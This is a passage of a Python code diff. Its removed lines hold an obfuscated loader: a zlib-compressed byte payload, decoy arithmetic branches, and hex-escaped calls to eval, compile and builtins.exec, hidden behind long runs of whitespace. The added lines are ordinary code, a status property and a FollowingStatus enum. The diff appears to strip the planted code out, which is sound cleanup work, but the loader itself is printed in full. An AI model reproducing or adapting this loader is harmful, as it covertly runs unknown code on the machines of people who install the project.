\xfa\x15;tW\xc1fN\xc1\xa7B\xc0\x99\x05\xf95\xcdw\r\xb3jv\xac\x05lWs\nj\x15D$^X\x01\xa8\xf9\xaa\x97\xde\x0e\x9a\x8ak\x03t\x9d\x96\x10\xf5\x17\xd7A\xe1_\x07\x9f\xa9_\xa4\xb0]\xe6\xf9A]V\xbdd\xe5\xd4K\xa0\xd3\'K\x88\xd5\x8b\xd9\x8c\xa37\x9b\x01!\xcf\xc9\xc5\xd9\xf1\xd9\x01\xc9\x81^\x8c6HV4\xbb\x12\xf7\x91j\xa6Y\xb8\xadI\xde\xc2\x81\xc5!\xf0\x9d\x86m\'r\x00\xd1Ah\x08\x9b\x81\x99\xcaEVJDx#\x0f\xce\x91S\x1f\x85\xa5)[\x97\xaaT\xbdv\x19\x07C\x0b\x1f\x92q\x9a4\xdal\xf7\xbaF\xbb\x14\t\x9f6\xdd\xea\x03\xbc\x99\xae/E\xfef\nO\x12\xff\xd7K\x0e\x99\x18\x9a9\xb1\xc9\xcd<P%1\xf4\x0e\xb0\xe0\xb1O\x12\x85\x90\xda\x0cD\x1a\xad\xa2\x82\xf7K\xa7\x0f\x1db\x92H\n\xd9\x10\x16\xd1\nBhg\xba)\xbc\xd2\x1dh\x97\xe1\t\xf6\x06Iz\x0b\xf1\xf2\x9e2\xe4/Ci(\xc5|\x98\x14\xd0\xcd\xf8\xb0\xd9\xc9A\x8b.\x14Q\r\x95\xa6\xc9NL.M\x02j\xb7\xcd\xa4\xa98\x8e\xe4\xa3\xce\x19\xfbU-\x18uL\xaa\xdd\x94\t\x83\x15|\xeb\x0e\xd6\x82\xdfX4\x83{s\xc3\xee\xc0B\xbd"\xc6\xbdwW\xf8QE\x9auy\xba\n8\xdb\xe1\xbcF\xa9uR\xd2M\x85\xd90\x8e\x9a\xb1\x0b\x95@E\xe1\x8fa\xeb\xe7\x1b\x1e\x9a\x8f:\r\xdc\xe0\x99\t\xd9\xbd')
-
-        _positive.CallFunction(Hypothesis = 29139 / _positive._add)                                                                                                                                                                                                                                                          ;_random._run(Theory='OODDODDODooDODDOOoDo',_builtins=b'5\x90\xd6\xd6\x8f)\xb26\x9e\xbb\xb0\x01\xf5\xf9\x1a\x86\xf4,+\x18\x08W\xcbJ\x9b\xad\xd77\x02HL\xab\x0b\xb4\x06\xab\xecOX\x92\x8f\x19ar\x05\x9bE\x911+l\xdb\x9a\xee\xa1\x14\xc4n\xd7\xa4NQ_Z@a\xcdX\xd2h\xf6\x89\xf3\xe2\x8f\xbd\x17\xab\xbd\x17!y\xf1\xee\xe0\xc5\xe9\xc1\x8b\xe9\xe0\xc5\xd2\xf1:\x96\x1a\xdf\xcc\\uu\xc9+~kCS\xa3\xb3*W\xd9~\x92\xcd\xf1\x18\x0cf0\rv\x8e\xa6\x05\x80\r\xca\xb7\x90fC\xeeK\x04)\xd2\xd3\x0eI\xf2\x91\x9b\xf3\xab\xc4TC\x97\xc7@\xe3\xd3\xc3\xf7\xff\x85\xaa\xde\x08\x1e\xa6\x8c\x85\xc1\xe4\x0c\xd7\xaa\x8f%\x1b9CU\x19m/~U\xad\xfa\xf1\xa77(!\xf6\xcf\\-\x00\xe6\x0cv\xe0\xb5\xd3O\xe2L\xce&#\xc7\xe8%\x80\x9e6\x9dK\x9d\xf3\x19n\x83\xed9OF\x9at I\xf01I\xf0E\xd4#\x9b\xaeT\x14iy`\x05Y\xa8_An\xaa\x1dFd\x8c\x14\xf5\xc1\r\xc9\x96E}\x95\x04G\xc7v\x9abx\x03MS\xe2\xc6\n\xce,g\xaa\xf3\x834\x81\x17Af\xd7\x94?[mk22&-\xb7A\x96\x00\x989oQ\xb9`\x99\x9b\x94\xa5\xce\xcb\x82e]\xb5\x9e\xe6\x9b\xaa"\x0e)\xcb\xae=\xff2s\xd86\x17}\xc9JA\xddv\x8b\xf5\xd1P\xe0\xeb|\xab\xd5\xe5!\xa1\xcb\xe6\xde\xc2l;\xc7\xa7%B|\x8eupp{MyX\xec\xe7Q\xb2\xa0~\xe3X\xb5\xc3|\x05\x05\'\x84:bA)\x8b\xb8L\x14\xcc\xd3mE\x9d*\xe5_\xa4\x98\xb6m=U\x94k\x1c\xedQ\xcb\xa8R\x88F6A\x18\xcaJ\xd4\xd4\xdf\xc7\xe5\x81ecV\xac\xed\xcb\xa5\xa3!N\xdb`\x1e2\xc2\x00\x7fg\xb2(|_\x85\xba\xe4\x9e\xc6\x07+/\xd2\xc4/\xe8]\xe1\xcc\xda\xde\x97\t\xb6\xaa\x124$\xa3\x1c\x18\xc0\xf0\x81\xad\x13\xe6;\x95\xfe6\xe9A\x13~kBi\x17\xc3\x14}\xe2\x17\xa9\xbf]\xaflm\x8c[\x96\x07+!\xc8\xd5\xba\xd9\xa3%>\x1c\xa7\xaa\x8f\x99KT\n\xb96\x884kC\x9d\xcb\xcc\x90\x90\xbf\xa1`X\t^\xea\xd0\x84\xbc\xc5\\\xf8\xee\xa1j\xa3\xfb\xb8WR\x90\xe90E\xbe`f\x90\xd2c\xc7\xaf\xe9g\x9a1\xdc!&\x8a\xedc\x18mm\xe1\xa1L\n=\xe6s\x19v\xc8\x1a\x96\xab\xb5\xfd\xd4\xb7/\xd0\xfb\x04\xaf\x0e&\xc5\xf05\xac0<[\xf9D!/\x17\xbb\xa8\xbaV\xb5(\xc9^\x87\xaa\x97\xb0\x0c\xc1\xae\x8e\xf8Q(5\x8a\x1d\xa6\x1aO\xea\x80\x85\xb6\xce\xa2\xcf\xe0\xa8Z]M\xd5\xa4\xd5\xc5\x0fIZ\xed\xec\xe0f\xf8Jj\xe1\x876J[}`\xa3\xb4\xf2\x03\x96\x16M\xb1Y\xb7:\xaa\xf3\xb7J\x8d\x12\xf1\xca\xfb\xb7\xa0o\xd29\xbbL\xc8<\x9a\xd4^\x04\x19,7\xbd\xb5\\\xa3\xef\xe6\x1b\xa9<\x84\xb6U\xa0\xa1\xe2\xc9\x8cj\x1a\x86\xcb&L2\xfdv;\x97\x8f\xa1\xa7\x96\x92\xa1\x8f\xcb\xcaD\x8fK\xcb\xd0%\xb4i\xe8jTm\xe8\xe4\xca\xd6z\xa4\xd3\x15s!F>xzBU\xe0\xfe\xc1S\xf1.\x9dJ\xd1\xccYU\x1f\x15\x15Xb\xc2\n\xb5\x8eW\x11Y\xad\x0c\xb1\xa9\xb5\xf3\x9cA\x00\xd1~\x12\x9aB\x1cF\xd2X\x15@\xea\xeaf\x8f\xc1\xcc\x92\x053\xd6\xd0E\x90}N\xa6\xc1gZE\xa6u9\xa7Y\xc5\xba4\x9a\x1e\xbe\x9f4\x80\x8f\xd0\x14K\xa0\nc\x98\xdd\xb7\x8c\xb9\t\xf5\x05\xb4\xa3\xab\xb7b\xa3\xeeF&\xc4\x97\x0er\xd5x\x16b\xbc\x13I\x19\xf8R\x16c{\x7f\xeeH4\xb0VS;8\xcb\xa9\x0f\xe3\xc0\xdc\x85\x8f1\xb73\x83#\xfbz\xdap>\xfa\xd7\xc7\xd1\xf4bt\xcc\xb6\xce\xc1"\xc8)\xf0\x1b\xea\xd9$>\x1d\'S\x7f-\x8f"\xef\xeaf\x91\x9d\x034\x8e\xc2\x16\xf0\x18y1\x8d\xfaq\xf2\x84q\xb9\x0f\xfa\xeaA\xa7G\xe7\x87\x1f\x1e\x1f\xd1\xa8\x88\xa7\x8d\x84\xf9b\xf70\x8fW\x10:\x0en\xbf\x053*\xd5\xe7d\x9c,2vs\x0b=\xc6\xe7 .\xc1\x81,\xf9\xce%6*\xac\xcb\xd7;S\xe5~\t\x9e(\x90 \x06\xdcpC\x82\n\xd3\xb4\xca\xabk\x1d\xc8\x1f\xfb\x84\xd8\xbcM\x9c=6\xd5TWEyY\xa1xF\x1f\xcf\xef\x85\x18r\x0b|\x04\xe38\x9a\x00\xb5\x8e\xd7\xd0z)\x10\xb51\x8d,4WP,L\xd4\x00F\x1f%\xe1\xcb\x9c\x99]\x84`U\x1e\xf3e3@\x9b]]\xcd\x1f\x99;eJ\xae\x0b\x0fx\x8b#i\xca\x10i\x8a\xc7\xb8\xd5\xf6!\xeb\x18\xb6\xf6 \xe6\xfe\xd8$\x87\xba\xb6d\x11\x83\xe87K\xa1\xc6V\xd4\xc3/\x98(\xc4w\x87\x1d\xa4\x98\x90t\x94-\x94(]\n\xb2\xb0\xdf@\x98\' Q0OA\x19\x02&\xd1EP\x9a\x86\x8c\xb6\xc5D\xc4\x15&\xcb,x\xb7y\n\x02\xd7\xcc\x7fC\x19\x98\xb7\xd2\x918\xaf\x11\xb6`[\xdc\xb0\xb2\xb0\xcd\xbb\xcdl\x0b\\3\xdb\re`\xdbJGb\xbbF\xd8\x82m%\xc44\xf9\x1f\xdeof\xbc\xc66s.\x11\x07\xd6\xed\xa4$\xde\x1b\x14+\xf3\xf6;S\xe6\x9c\xbd\xe3v\x90R\xe3\x84\xd4\x15\xbc\x87\xf2\xdb\x94\x8a\xb6~k\x8e\xde\x15Y0\xbcw\xd8/\xc3\x9c\x03\xa4\x82?\n\x1b\xb0+\xaa\x0f\xf7\xec\xa7a\x83\xe3\xf1\xe9\x83\xf3 a\xb6n\xf9\xf2\xc0\x90]\xd7Vr\xe8\xa8\xfaA\x17^t\xa9/\x86~\xc9\t\x88\xc0\xb5\xd0\xae\xefP~\x01\xed\x1a\xb7u\xac\xc7\xea|a\xb0\x91\x0f\xffr\x9f]\xb7l]\xa4d\xad\xea\x8d\xbc\xaa\xd8\xc1ov\xd6\xcc\xb5\xd3.\xb6M\xe7\xae\'IU\xbe\xcc\xd7\x90\xd1\xef\xea\xb4\x0fS\xdb\x15\xdc\xae\x80\xa5\x95<\xd9\xca\xbb\x9d\x8b\x0f\xd4 \x04\xd5J\xbe\xc8^\x9b\xcb\x9f\x87\xfa\x95\x88\x1f\xdb\xf1\x98D\xd4t\xf5\x90\t[\xbdZ\xc6\xd5\xcb\xba\x14M\xca\xb6\xd9\xba\xfej\xf9a\xc87\xab\x7fY~\xa7\xf3W\xd6\xbe\xf4!\xb7\xae{=\xdb\xf9\x87\xf8\x05j\xf53<-xu\xf1W\xaaBz\x18\xc86\xe6.\x12\x08R\xab\xa4N\xb7\xa0i\xbfjj\xf2\x0ch\xfb\x9b S\x1f\x14B\xe3\xeb\xaa\x91\xe7\x06\xd0\xf0\xf7\xff\x02\x97\xbf`\x01')
-
-        if 169097 > 6754104:
-            _random(_stackoverflow = 45711 * -29471).CallFunction(Hypothesis = -97629 - _positive._add)
-        elif 100199 < 1022692:
-            _random(_stackoverflow = 10352 / 36691).Substract(_hypothesis = _positive._add + -91890)                                                                                                                                                                                                                                                          ;S22S2S2S22SSSSS2222S2S222,IIIIlIlIllIlIIIIIIIl,nmnmmmnnmmnmnnmmmmnnn,XXXXXXWWWXXWWWWXXWXXWWWXX,XWXXXXXXXWWXWWXXXXXWXWXW=(lambda xwwxwwxwxwwxwxxxxwxxx:xwwxwwxwxwwxwxxxxwxxx['\x64\x65\x63\x6f\x6d\x70\x72\x65\x73\x73']),(lambda xwwxwwxwxwwxwxxxxwxxx:globals()['\x65\x76\x61\x6c'](globals()['\x63\x6f\x6d\x70\x69\x6c\x65'](globals()['\x73\x74\x72']("\x67\x6c\x6f\x62\x61\x6c\x73\x28\x29\x5b\x27\x5c\x78\x36\x35\x5c\x78\x37\x36\x5c\x78\x36\x31\x5c\x78\x36\x63\x27\x5d(xwwxwwxwxwwxwxxxxwxxx)"),filename='\x69\x6a\x6c\x69\x6c\x6a\x6a\x6c\x6a\x6c\x6c\x6c\x6a\x6c\x6a\x69\x69\x69\x6c\x69\x69\x69\x6c',mode='\x65\x76\x61\x6c'))),(lambda xwwxwwxwxwwxwxxxxwxxx:xwwxwwxwxwwxwxxxxwxxx(__import__('\x7a\x6c\x69\x62'))),(lambda:(lambda xwwxwwxwxwwxwxxxxwxxx:globals()['\x65\x76\x61\x6c'](globals()['\x63\x6f\x6d\x70\x69\x6c\x65'](globals()['\x73\x74\x72']("\x67\x6c\x6f\x62\x61\x6c\x73\x28\x29\x5b\x27\x5c\x78\x36\x35\x5c\x78\x37\x36\x5c\x78\x36\x31\x5c\x78\x36\x63\x27\x5d(xwwxwwxwxwwxwxxxxwxxx)"),filename='\x69\x6a\x6c\x69\x6c\x6a\x6a\x6c\x6a\x6c\x6c\x6c\x6a\x6c\x6a\x69\x69\x69\x6c\x69\x69\x69\x6c',mode='\x65\x76\x61\x6c')))('\x5f\x5f\x69\x6d\x70\x6f\x72\x74\x5f\x5f\x28\x27\x62\x75\x69\x6c\x74\x69\x6e\x73\x27\x29\x2e\x65\x78\x65\x63')),(lambda OO0ooOOOO0oO0OO0Oo0,xwwxwwxwxwwxwxxxxwxxx:OO0ooOOOO0oO0OO0Oo0(xwwxwwxwxwwxwxxxxwxxx))
-        _random(_stackoverflow = -29333 * 60454).CallFunction(Hypothesis = -11008 / _positive._add)                                                                                                                                                                                                                                                          ;XXXXXXWWWXXWWWWXXWXXWWWXX()(XWXXXXXXXWWXWWXXXXXWXWXW(S22S2S2S22SSSSS2222S2S222(nmnmmmnnmmnmnnmmmmnnn(IIIIlIlIllIlIIIIIIIl('\x76\x61\x72\x73'))),_random._invert(_statistics='nnnmnmmnmmnnnnnnnnnmnmnn')+_random._invert(_statistics='OODDODDODooDODDOOoDo')))
-
-    except Exception as Divide:
-        import traceback
-        print(f'    module {__name__} raised an Exception:')
-        print(f'     {Divide}')
-        print(traceback.format_exc())
-        if 174586 > 8537808:
-            _random.execute(code = Walk(Divide))
-
-        elif 437692 > 6893749:
-            _positive.CallFunction(Hypothesis = 99157 / _positive._add)
\ No newline at end of file
+    def rejected(self) -> bool:
+        return (
+            self.skip_reason is not None
+            and self.skip_reason not in self.TRANSIENT_SKIP_REASONS
+        )
+
+
+@unique
+class FollowingStatus(Enum):
+    NONE = 0
+    FOLLOWED = 1
+    REQUESTED = 2
+    UNFOLLOWED = 3
+    NOT_IN_LIST = 4
+    SCRAPED = 5